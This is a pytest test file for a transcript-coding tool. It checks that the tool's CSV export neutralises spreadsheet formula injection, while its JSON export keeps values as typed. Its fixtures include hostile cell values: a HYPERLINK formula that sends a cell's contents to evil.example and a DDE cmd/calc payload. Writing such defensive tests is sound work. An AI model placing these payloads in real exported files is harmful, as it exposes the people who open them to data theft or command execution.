"""CSV formula injection (OWASP "CSV Injection"): no text cell of a CSV export runs as a formula.

A spreadsheet reads a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return as a formula; the CSV export starts such a cell with `'`. JSON is for
programs, not spreadsheets, and keeps every value as it is.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlmodel import select

from coder.coding.actions import add_coding
from coder.report.codings_export import coding_rows, write_csv, write_json
from coder.storage.models import Transcript
from tests.test_cli import run

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _row(**text: str) -> dict:
    """An export row whose text cells are all harmless except those given."""
    row = {"transcript": "t", "school": "", "memo": "", "text": "", "first_segment": 3, "transcript_id": 1}
    return row | text


def _csv(rows: list[dict]) -> list[dict]:
    buffer = io.StringIO()
    write_csv(rows, buffer)
    return list(csv.DictReader(io.StringIO(buffer.getvalue())))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_cell_that_would_run_as_a_formula_starts_with_a_quote(hostile):
    back = _csv([_row(memo=hostile, text=hostile, transcript=hostile, school=hostile)])[0]
    assert back["memo"] == back["text"] == back["transcript"] == back["school"] == "'" + hostile


@pytest.mark.parametrize("harmless", ["", "Ik heb haar echt nodig.", "'al geciteerd", " =spatie eerst", "a=b", "e-mail"])
def test_other_text_is_left_as_it_is(harmless):
    assert _csv([_row(memo=harmless)])[0]["memo"] == harmless


def test_a_text_that_is_only_a_dash_or_looks_negative_is_text_and_neutralised():
    """A memo "-" or "-5" is text the coder typed, not a number: the quote keeps a
    spreadsheet from reading "-5" as minus five, or "-" as the start of a formula."""
    back = _csv([_row(memo="-", text="-5")])[0]
    assert (back["memo"], back["text"]) == ("'-", "'-5")


def test_numbers_are_not_text_cells_and_stay_numbers():
    back = _csv([_row(first_segment=-1, transcript_id=7)])[0]
    assert (back["first_segment"], back["transcript_id"]) == ("-1", "7")


def test_json_keeps_every_value_as_it_is():
    buffer = io.StringIO()
    write_json([_row(memo=HOSTILE[0])], buffer)
    assert json.loads(buffer.getvalue())[0]["memo"] == HOSTILE[0]


def test_a_study_with_hostile_memos_and_titles_exports_no_formula(capsys, sample):
    study, t = sample
    with study.session() as session:
        session.exec(select(Transcript)).one().title = "=cmd|' /C calc'!A0"
        for position, memo in enumerate(HOSTILE[:4], start=2):
            add_coding(session, "anna", "mutual-trust", t, position, position, memo=memo)
        rows = coding_rows(session)
    code, out, _ = run(capsys, "--db", study.target, "export", "codings")
    assert code == 0
    cells = [value for row in csv.DictReader(io.StringIO(out)) for value in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {row["memo"] for row in rows} == set(HOSTILE[:4])  # the study and the rows keep what was typed
    code, out, _ = run(capsys, "--db", study.target, "export", "codings", "--format", "json")
    assert {row["memo"] for row in json.loads(out)} == set(HOSTILE[:4])


def test_the_help_says_so(capsys):
    code, out, _ = run(capsys, "export", "codings", "--help")
    assert code == 0 and "formula" in out and "'" in out
